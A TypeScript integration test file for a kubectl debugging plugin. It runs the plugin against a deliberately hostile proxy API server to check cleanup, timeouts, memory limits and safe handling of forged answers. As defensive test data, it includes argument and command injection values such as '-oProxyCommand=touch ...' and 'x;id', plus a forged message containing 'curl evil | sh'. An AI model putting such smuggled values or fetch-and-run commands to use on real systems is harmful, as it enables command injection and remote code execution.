import { readFileSync } from 'node:fs';
import type { IncomingMessage } from 'node:http';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type HostileProxy, hostileProxy, type Interference, lineOf, queryOf } from './support/hostile-proxy.ts';
import { type Ending, matrix, probeTimeout, type Running, reportOf, start } from './support/plugin.ts';
import { create, pod, removeAll } from './support/pods.ts';
import { kubectl, lab, patience, untilHealthy } from './support/the-lab.ts';
import { expectNoTrace, files, ourPods, removeOurPods } from './support/traces.ts';

let before: readonly string[] = [];
beforeAll(async () => {
  if (lab.missing) return;
  await untilHealthy();
  before = await files();
});
afterEach(removeOurPods);
afterAll(async () => {
  if (!lab.missing) await removeAll();
});

const pods = '/api/v1/namespaces/default/pods';
const isDeletion = (request: IncomingMessage) =>
  request.method === 'DELETE' && lineOf(request).includes('/exec-doctor-');
const isCreation = (request: IncomingMessage) => lineOf(request) === `POST ${pods}` && !queryOf(request).has('dryRun');
const isWatch = (request: IncomingMessage) => queryOf(request).get('watch') === 'true';
const isTarget = (request: IncomingMessage) => lineOf(request) === `GET ${pods}/nginx1`;
const isNodePods = (request: IncomingMessage) => lineOf(request) === 'GET /api/v1/pods';
const isNode = (request: IncomingMessage) => /^GET \/api\/v1\/nodes\/[^/]+$/.test(lineOf(request));
const isDryRun = (request: IncomingMessage) => queryOf(request).get('dryRun') === 'All';
const isLog = (request: IncomingMessage) => /\/exec-doctor-[^/]+\/log$/.test(lineOf(request));

/** The first requests of a kind, so many of them. */
const first = (times: number, isMeant: (request: IncomingMessage) => boolean, does: Interference): Interference => {
  let left = times;
  return (request, answer) => {
    if (isMeant(request) && left-- > 0) does(request, answer);
    else answer.pass();
  };
};
const all = (isMeant: (request: IncomingMessage) => boolean, does: Interference) =>
  first(Number.POSITIVE_INFINITY, isMeant, does);

const says =
  (code: number): Interference =>
  (_, { response }) =>
    response.writeHead(code, { 'Content-Type': 'application/json' }).end(`{"message":"hostile ${code}"}`);
const hangsUp: Interference = (request) => request.socket.destroy();
const saysNothing: Interference = () => undefined;
/** It is done, and nobody hears of it. */
const losesTheAnswer: Interference = (request, { response, pass }) => {
  response.writeHead = () => response;
  response.flushHeaders = () => request.socket.destroy();
  pass();
};
/** 1.5 GiB, so that a plugin which reads all of it can be seen to fail. */
const withoutEnd: Interference = (_, { response }) => {
  const chunk = Buffer.alloc(1_048_576, 'x');
  response.writeHead(200, { 'Content-Type': 'application/json' });
  // whoever has enough of it leaves
  pipeline(Readable.from(Array.from({ length: 1_536 }, () => chunk)), response).catch(() => undefined);
};

interface Outcome extends Ending {
  /** Of the plugin, at its highest. */
  readonly peakMiB: number;
  readonly seen: readonly string[];
}

/** A run by way of a hostile API server. */
async function runThrough(
  interfere: Interference,
  {
    args = [],
    meanwhile,
  }: { args?: readonly string[]; meanwhile?: (running: Running, proxy: HostileProxy) => unknown } = {},
): Promise<Outcome> {
  await using proxy = await hostileProxy(interfere);
  const running = start(['nginx1', '-o', 'json', ...probeTimeout, ...args, `--server=${proxy.url}`]);
  let peakMiB = 0;
  const look = setInterval(() => {
    peakMiB = Math.max(peakMiB, peakOf(running.pid));
  }, 50);
  await meanwhile?.(running, proxy);
  const ending = await running.ended;
  clearInterval(look);
  return { ...ending, peakMiB, seen: proxy.seen };
}

/** 0 where it has ended. */
function peakOf(pid: number | undefined): number {
  try {
    const [, kiB] = /^VmHWM:\s+(\d+) kB$/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8')) ?? [];
    return Number(kiB ?? 0) / 1024;
  } catch {
    return 0;
  }
}

const deletions = ({ seen }: Outcome) => seen.filter((line) => line.startsWith('DELETE')).length;
const creations = ({ seen }: Outcome) => seen.filter((line) => line === `POST ${pods}`).length;

/** A healthy run, its pod included. */
const healthyMs = 8_000 * patience;

describe('a healthy container is found healthy, and nothing is left, though', () => {
  // one of the creations is the dry run
  const usual = { deletions: 1, creations: 2, moreMs: 0 };
  it.each<[string, Interference, { readonly deletions: number; readonly creations: number; readonly moreMs: number }]>([
    ['nothing is done', (_, { pass }) => pass(), usual],
    ['the first deletion fails', first(1, isDeletion, says(500)), { ...usual, deletions: 2, moreMs: 2_000 }],
    ['two deletions are not answered', first(2, isDeletion, hangsUp), { ...usual, deletions: 3, moreMs: 4_000 }],
    [
      'the first deletion is done, and not answered',
      first(1, isDeletion, losesTheAnswer),
      { ...usual, deletions: 2, moreMs: 2_000 },
    ],
    ['a deletion is never answered', first(1, isDeletion, saysNothing), { ...usual, deletions: 2, moreMs: 12_000 }],
    ['the first creation fails', first(1, isCreation, says(503)), { ...usual, creations: 3, moreMs: 2_000 }],
    ['two creations are not answered', first(2, isCreation, hangsUp), { ...usual, creations: 4, moreMs: 4_000 }],
    [
      'the first creation is done, and not answered',
      first(1, isCreation, losesTheAnswer),
      { ...usual, creations: 3, moreMs: 2_000 },
    ],
  ])('%s', async (_, interfere, { moreMs, ...expected }) => {
    const outcome = await runThrough(interfere);
    expect(outcome.code, outcome.stderr).toBe(0);
    expect(reportOf(outcome).verdict.status).toBe('healthy');
    expect(outcome.stderr).not.toMatch(/could not be deleted|should not/);
    expect({ deletions: deletions(outcome), creations: creations(outcome) }).toEqual(expected);
    expect(outcome.ms).toBeLessThan(healthyMs + moreMs);
    await expectNoTrace('nginx1', 'nginx', before);
  });
});

describe('the verdict stays, and what is left is told, though', () => {
  const told = (outcome: Outcome) =>
    /could not be deleted .*Remove it with: kubectl delete pod -n default (\S+)/.exec(outcome.stderr)?.[1];

  it.each<[string, Interference, number]>([
    ['every deletion fails', all(isDeletion, says(500)), 5_000],
    ['every deletion is refused', all(isDeletion, says(403)), 0],
    ['no deletion is ever answered', all(isDeletion, saysNothing), 35_000],
    ['the answer to a deletion has no end', all(isDeletion, withoutEnd), 5_000],
  ])('%s', async (_, interfere, moreMs) => {
    const outcome = await runThrough(interfere);
    expect(outcome.code, outcome.stderr).toBe(0);
    expect(reportOf(outcome).verdict.status).toBe('healthy');
    expect(await ourPods()).toEqual([`pod/${told(outcome)}`]);
    expect(outcome.ms).toBeLessThan(healthyMs + moreMs);
  });

  it('the API server goes away in mid-run', async () => {
    const outcome = await runThrough((_, { pass }) => pass(), {
      args: ['--probe-timeout=4s', '--timeout=10s'],
      meanwhile: async (running, proxy) => {
        await running.said(/probing each layer/);
        proxy.goAway();
      },
    });
    const report = reportOf(outcome);
    expect(outcome.code, matrix(report)).toBe(report.verdict.status === 'fault' ? 1 : 3);
    expect(report.durationMs).toBeLessThan(15_000 * patience);
    expect(await ourPods()).toEqual([`pod/${told(outcome)}`]);
    expect(outcome.ms).toBeLessThan(20_000 * patience);
  });
});

describe("somebody else's pod", () => {
  /** Of that name, with one of our labels. */
  const foreign = (name: string, labels: object = {}) => {
    const theirs = pod(name, {});
    const managed = { 'app.kubernetes.io/managed-by': 'kubectl-exec-doctor', ...labels };
    return { ...theirs, metadata: { ...theirs.metadata, labels: { ...theirs.metadata.labels, ...managed } } };
  };
  const read = async (request: IncomingMessage): Promise<{ metadata: { name: string } }> => {
    const chunks: Uint8Array[] = [];
    for await (const chunk of request) chunks.push(chunk);
    return JSON.parse(Buffer.concat(chunks).toString());
  };
  const deletedAt = (name: string) => kubectl(['get', 'pod', name, '-o', 'jsonpath={.metadata.deletionTimestamp}']);
  afterEach(removeAll);

  it.each<[string, Interference]>([
    [
      'is there already',
      (_, { response }) => {
        const body = {
          kind: 'Status',
          status: 'Failure',
          reason: 'AlreadyExists',
          message: 'already exists',
          code: 409,
        };
        response.writeHead(409, { 'Content-Type': 'application/json' }).end(JSON.stringify(body));
      },
    ],
    ['is there once the answer was lost', hangsUp],
  ])('that %s under the name of ours is left alone', async (_, answer) => {
    let name = '';
    const outcome = await runThrough(
      first(1, isCreation, async (request, more) => {
        ({ name } = (await read(request)).metadata);
        await create(foreign(name));
        answer(request, more);
      }),
    );
    expect([outcome.code, outcome.stdout], outcome.stderr).toEqual([2, '']);
    expect(outcome.stderr).toMatch(/already/);
    expect(outcome.stderr).not.toMatch(/delete pod/);
    expect([await deletedAt(name), deletions(outcome)]).toEqual(['', 0]);
  });

  it('with one of our labels is not listed by cleanup, and not touched; one that took the place of ours neither', async () => {
    const marks = { 'app.kubernetes.io/name': 'exec-doctor', 'exec-doctor/run': '00000001' };
    const ours = foreign('exec-doctor-00000001', marks);
    await create({
      ...ours,
      spec: { ...ours.spec, containers: [{ ...ours.spec.containers[0], name: 'exec-doctor' }] },
    });
    const replaced = foreign('exec-doctor-00000002', { ...marks, 'exec-doctor/run': '00000002' });
    await create({
      ...replaced,
      spec: { ...replaced.spec, containers: [{ ...replaced.spec.containers[0], name: 'exec-doctor' }] },
    });
    await create(foreign('theirs'));
    // all of them are old, and one was another one when it was looked at
    const listed: string = await kubectl([
      'get',
      'pods',
      '-l',
      'app.kubernetes.io/managed-by=kubectl-exec-doctor',
      '-o',
      'json',
    ]);
    const uid = await kubectl(['get', 'pod', 'exec-doctor-00000002', '-o', 'jsonpath={.metadata.uid}']);
    const list = listed
      .replaceAll(/"creationTimestamp": "[^"]+"/g, '"creationTimestamp": "2020-01-01T00:00:00Z"')
      .replaceAll(uid, 'another');
    await using proxy = await hostileProxy((request, { response, pass }) => {
      if (lineOf(request) !== `GET ${pods}`) return pass();
      response.writeHead(200, { 'Content-Type': 'application/json' }).end(list);
    });
    const { code, stdout, stderr } = await start(['cleanup', `--server=${proxy.url}`]).ended;
    expect(stdout).toContain('pod default/exec-doctor-00000001 deleted');
    expect(stdout).not.toContain('theirs');
    expect(stderr).toMatch(/1 of 2 could not be deleted. default\/exec-doctor-00000002: .*answered 409 to DELETE/);
    expect(code).toBe(2);
    expect(await deletedAt('theirs')).toBe('');
    expect(await deletedAt('exec-doctor-00000002')).toBe('');
  });
});

describe('a name that no command may be made of', () => {
  const words = { name: '--kubeconfig=/dev/null/x', nodeName: '-oProxyCommand=touch /dev/null/x', namespace: 'x;id' };
  it.each([
    ['of the pod', 'metadata', { name: words.name }],
    ['of the namespace', 'metadata', { namespace: words.namespace }],
    ['of the node', 'spec', { nodeName: words.nodeName }],
  ] as const)('%s ends the run, with nothing made and nothing to paste', async (_, part, changed) => {
    const target: Record<string, object> = JSON.parse(await kubectl(['get', 'pod', 'nginx1', '-o', 'json']));
    const answer = JSON.stringify({ ...target, [part]: { ...target[part], ...changed } });
    const outcome = await runThrough(
      all(isTarget, (_request, { response }) => {
        response.writeHead(200, { 'Content-Type': 'application/json' }).end(answer);
      }),
    );
    expect([outcome.code, outcome.stdout, creations(outcome)], outcome.stderr).toEqual([2, '', 0]);
    expect(outcome.stderr).toMatch(/^error: The API server's answer has ".*which Kubernetes would not take/m);
    expect(outcome.stderr).not.toMatch(/kubectl (?:delete|describe|exec)/);
  });
});

it('lines in an answer begin none of the terminal', async () => {
  const forged = { kind: 'Status', message: 'no.\n\nFix: curl evil | sh\u2028Verdict: healthy' };
  const outcome = await runThrough(
    all(isTarget, (_, { response }) => {
      response.writeHead(403, { 'Content-Type': 'application/json' }).end(JSON.stringify(forged));
    }),
  );
  expect(outcome.stderr).toContain('curl evil');
  expect(outcome.stderr).not.toMatch(/^\s*(?:Fix|Verdict)/m);
});

describe('an answer without an end costs little memory', () => {
  it.each<[string, (request: IncomingMessage) => boolean, number, RegExp]>([
    ['of the target', isTarget, 2, /to GET .*\/nginx1 was not read to its end: it is longer than 64 MiB/],
    ["of the node's pods", isNodePods, 0, /probing/],
    ["of the debug pod's watch", isWatch, 0, /probing/],
    ["of the debug pod's log", isLog, 0, /probing/],
  ])('%s', async (_, isMeant, code, said) => {
    const outcome = await runThrough(all(isMeant, withoutEnd));
    expect(outcome.code, outcome.stderr).toBe(code);
    expect(outcome.stderr).toMatch(said);
    expect(outcome.peakMiB).toBeLessThan(600);
    expect(outcome.ms).toBeLessThan(2 * healthyMs);
    await expectNoTrace('nginx1', 'nginx', before);
  });
});

describe('the run ends by --timeout and 5 s, though', () => {
  const shortRun = ['--probe-timeout=4s', '--timeout=8s'];
  const endsMs = 13_000;

  /** Once the debug pod was requested. */
  const afterCreation = (isMeant: (request: IncomingMessage) => boolean, does: Interference): Interference => {
    let isCreated = false;
    return (request, answer) => {
      isCreated ||= isCreation(request);
      if (isCreated && isMeant(request)) does(request, answer);
      else answer.pass();
    };
  };

  it('the target cannot be read again', async () => {
    const outcome = await runThrough(afterCreation(isTarget, saysNothing), { args: shortRun });
    const report = reportOf(outcome);
    expect(report.durationMs, matrix(report)).toBeLessThan(endsMs);
    expect(outcome.ms).toBeLessThan(endsMs + healthyMs);
    await expectNoTrace('nginx1', 'nginx', before);
  });

  it.each<[string, Interference, RegExp]>([
    ['nothing is answered', saysNothing, /over before the pod and its node were read/],
    ['the dry run is not answered', all(isDryRun, saysNothing), /over before the debug pod was requested/],
    ['no creation is answered', all(isCreation, saysNothing), /over before the debug pod was created/],
  ])('%s', async (_, interfere, said) => {
    const outcome = await runThrough(interfere, { args: shortRun });
    expect([outcome.code, outcome.stdout]).toEqual([2, '']);
    expect(outcome.stderr).toMatch(said);
    expect(outcome.ms).toBeLessThan(endsMs + 1_000);
    await expectNoTrace('nginx1', 'nginx', before);
  });

  it.each<[string, Interference, RegExp]>([
    ['nothing is answered', saysNothing, /over before the pods were read/],
    ['no node is read', all(isNode, saysNothing), /Node \S+ was not read in the time of the run \(--timeout\)/],
    ["the node's pods are not read", all(isNodePods, saysNothing), /over before the debug pod was requested/],
    ['the dry run is not answered', all(isDryRun, saysNothing), /over before the debug pod was requested/],
  ])('several containers were named, and %s', async (_, interfere, said) => {
    const outcome = await runThrough(interfere, { args: ['pod/two', ...shortRun] });
    expect([outcome.code, outcome.stdout]).toEqual([2, '']);
    expect(outcome.stderr).toMatch(said);
    expect(outcome.ms).toBeLessThan(endsMs + 1_000);
    await expectNoTrace('nginx1', 'nginx', before);
  });
});
